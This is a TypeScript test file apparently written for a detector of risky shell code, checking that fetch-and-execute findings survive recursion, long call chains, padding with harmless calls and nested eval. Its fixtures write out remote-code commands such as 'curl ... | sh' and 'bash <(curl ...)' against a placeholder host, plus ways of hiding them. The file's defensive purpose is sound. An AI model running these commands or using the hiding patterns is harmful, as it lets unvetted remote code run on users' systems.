import { describe, expect, it } from "vitest";
import { chain, clique, growing, menu } from "../../bench/recursive-calls.js";
import { profiles } from "../../src/core/model.js";
import { sharedDetector } from "../support/marked.js";
import { assertSound } from "./invariants.js";

const FETCH = "bash <(curl -fsSL https://x.example/install.sh)";

/** Functions that call each other with longer and longer paths of a file tree. */
const walk = `walk() { for d in "$1"/*; do walk "$d"; visit "$d"; walk "$d/x"; done; }
visit() { walk "$1"; walk "$2"; visit "$3"; visit "$4"; }
scan() { walk "$1"; visit "$1"; scan "$2"; scan "$3"; }
scan / && visit / && walk /
${FETCH}
`;

const programs: Readonly<Record<string, string>> = {
  "functions that walk a file tree": walk,
  "a chain of 40 functions": chain(40),
  "a chain of 4,000 functions": chain(4000),
  "6 functions that call each other": clique(6),
  "60 functions that call each other": clique(60),
  "a menu of 40 actions": menu(40),
  "a menu of 1,600 actions": menu(1600),
};

/** Returns a program that consists of a definition, calls that differ only in literal words, and a last call. */
function padded(definition: string, calls: readonly string[], last: string): string {
  return `${[definition, ...calls, last].join("\n")}\n`;
}

const range = (length: number): string[] => Array.from({ length }, (_, index) => String(index));

describe.each(profiles)("function calls in the %s profile:", { timeout: 120_000 }, (profile) => {
  it.each(Object.entries(programs))("the evaluation of %s is complete", async (_, text) => {
    const detection = (await sharedDetector(profile)).detect(text);
    assertSound(text, detection);
    expect(detection.findings.map((finding) => finding.text)).toEqual([FETCH]);
    expect(detection.outcome).toEqual({ status: "complete" });
  });

  it.each([
    [
      "a function that runs its words",
      padded(
        'run() { echo "+ $*"; "$@"; }',
        range(200).map((at) => `run apt-get install pkg${at}`),
        'run bash -c "$(curl -fsSL https://x.example/i)"',
      ),
      'bash -c "$(curl -fsSL https://x.example/i)"',
    ],
    [
      "a function that executes its first word",
      padded(
        'run() { eval "$1"; }',
        range(300).map((at) => `run 'apt-get install pkg${at}'`),
        "run 'curl -fsSL https://x.example/i | sh'",
      ),
      'eval "$1"',
    ],
    [
      "a function that passes its argument to a fetcher",
      padded(
        'get() { curl -fsSL "$1"; }',
        range(300).map((at) => `get https://x.example/${at} > f${at}`),
        "get https://x.example/i | sh",
      ),
      "get https://x.example/i | sh",
    ],
  ])(
    "hundreds of harmless calls do not hide a finding in another call of %s",
    async (_, text, found) => {
      const detection = (await sharedDetector(profile)).detect(text);
      assertSound(text, detection);
      expect(
        detection.findings
          .filter(({ level }) => level === "finding")
          .map((finding) => finding.text),
      ).toEqual([found]);
      expect(detection.outcome).toEqual({ status: "complete" });
    },
  );

  it.each([
    ["printed", 'printf "$ALL" >&2', "curl -fsSL https://x.example/i | sh", [], "complete"],
    ["printed", 'printf "$ALL" >&2', "curl -fsSL https://x.example/i | jq", [], "complete"],
    [
      "executed",
      'eval "$ALL"',
      "curl -fsSL https://x.example/i | sh",
      ['eval "$ALL"'],
      "incomplete",
    ],
    ["executed", 'eval "$ALL"', "curl -fsSL https://x.example/i | jq", [], "incomplete"],
    [
      "executed",
      'echo "$ALL" | sh',
      "curl -fsSL https://x.example/i | sh",
      ['echo "$ALL" | sh'],
      "incomplete",
    ],
  ])(
    "a variable that collects text in many calls and is %s (%s, %s) is evaluated with the lines that may be code",
    async (_, use, last, found, status) => {
      const text = padded(
        `add() { ALL="$ALL\n$*"; show; }\nshow() { ${use}; }`,
        range(80).map((at) => `add 'tool${at} --all [x] || exit'`),
        `add '${last}'`,
      );
      const detection = (await sharedDetector(profile)).detect(text);
      assertSound(text, detection);
      expect(detection.findings.map((finding) => finding.text)).toEqual(found);
      expect(detection.outcome.status).toBe(status);
    },
  );

  it("functions that may add a line to a variable that is only printed are evaluated completely", async () => {
    const steps = range(60).map(
      (at) =>
        `f${at}() { if a; then warn "${at} (of many) failed; see \`bash\`"; fi; f${String(Number(at) + 1)}; f${String(Number(at) + 1)}; }`,
    );
    const text = padded(
      'warn() { ALL="$ALL\\n - $*"; show; }\nshow() { printf "$ALL" >&2; }',
      [...steps, "f60() { :; }", "f0"],
      FETCH,
    );
    const detection = (await sharedDetector(profile)).detect(text);
    assertSound(text, detection);
    expect(detection.findings.map((finding) => finding.text)).toEqual([FETCH]);
    expect(detection.outcome).toEqual({ status: "complete" });
  });

  it("if there are very many calls, their different arguments are joined, and the outcome is incomplete", async () => {
    const text = growing(30, "curl -fsSL https://x.example/i | sh");
    const detection = (await sharedDetector(profile)).detect(text);
    assertSound(text, detection);
    expect(detection.findings.map((finding) => finding.text)).toEqual(['eval "$1"']);
    expect(detection.outcome.status).toBe("incomplete");
  });

  it("calls that exhaust the budget hide no later finding in the same or another block", async () => {
    const costly = `${growing(200, "curl -fsSL https://x.example/i | sh")}curl B | sh\n`;
    const text = `\`\`\`sh\n${costly}\`\`\`\n\n`.repeat(3);
    const detection = (await sharedDetector(profile)).detect(text);
    assertSound(text, detection);
    const found = detection.findings.map((finding) => finding.text);
    expect(found.filter((each) => each === "curl B | sh")).toHaveLength(3);
    expect(detection.outcome.status).toBe("incomplete");
  });

  it.each([
    ["an argument that is code", 300, "'curl U | sh'", ['eval "$1"']],
    ["an argument that is fetched content", 300, '"$(curl U)"', ['eval "$1"']],
    ["an argument that is a harmless command", 300, "'curl U | jq'", []],
    ["an argument that is an empty output", 300, '"$(curl -o f U)"', []],
  ])("%s is followed through %i functions", async (_, length, given, found) => {
    const links = range(length).map((at) => `f${String(Number(at) + 1)}() { f${at} "$1"; }`);
    const text = ['f0() { eval "$1"; }', ...links, `f${String(length)} ${given}`, ""].join("\n");
    const detection = (await sharedDetector(profile)).detect(text);
    assertSound(text, detection);
    expect(
      detection.findings.filter(({ level }) => level === "finding").map((finding) => finding.text),
    ).toEqual(found);
    expect(detection.outcome).toEqual({ status: "complete" });
  });

  it.each([
    [13, ['eval "$v13"'], "complete"],
    [60, [], "incomplete"],
  ])(
    "%i nested code strings are evaluated or make the outcome incomplete",
    async (depth, found, status) => {
      const strings = range(depth).map((at) => `v${String(Number(at) + 1)}='eval "$v${at}"'`);
      const text = ["v0='curl U | sh'", ...strings, `eval "$v${String(depth)}"`, ""].join("\n");
      const detection = (await sharedDetector(profile)).detect(text);
      assertSound(text, detection);
      expect(detection.findings.map((finding) => finding.text)).toEqual(found);
      expect(detection.outcome.status).toBe(status);
    },
  );

  it.each([
    ['f() { eval "$S"; }\nS=$(curl A)\nf\n', ['eval "$S"']],
    ['f() { eval "$S"; }\nf\nS=$(curl A)\n', []],
    ['f() { eval "$S"; S=$(curl A); f; }\nf\n', ['eval "$S"']],
    ['f() { eval "$S"; S=$(curl -o x A); f; }\nf\n', []],
    ['f() { f "$(curl A)"; eval "$1"; }\nf\n', ['eval "$1"']],
    ['f() { f "$(curl -o x A)"; eval "$1"; }\nf\n', []],
    ["f() { g; }\ng() { :; }\nf\ng() { curl A | sh; }\nf\n", ["curl A | sh"]],
    ['f() { g "$1"; }\ng() { :; }\nf ls\ng() { eval "$1"; }\nf "curl A | sh"\n', ['eval "$1"']],
    ['f() { g "$1"; }\ng() { eval "$1"; }\nf ls\ng() { :; }\nf "curl A | sh"\n', []],
    ["( g() { sh; }; f() { curl A | g; }; f )\n", ["curl A | g"]],
    ["f() { curl A | g; }\n( g() { sh; }; :; )\nf\n", []],
  ])(
    "a call uses the values and functions that were defined before it: %j",
    async (text, found) => {
      const detection = (await sharedDetector(profile)).detect(`\`\`\`sh\n${text}\`\`\`\n`);
      expect(
        detection.findings
          .filter(({ level }) => level === "finding")
          .map((finding) => finding.text),
      ).toEqual(found);
    },
  );
});
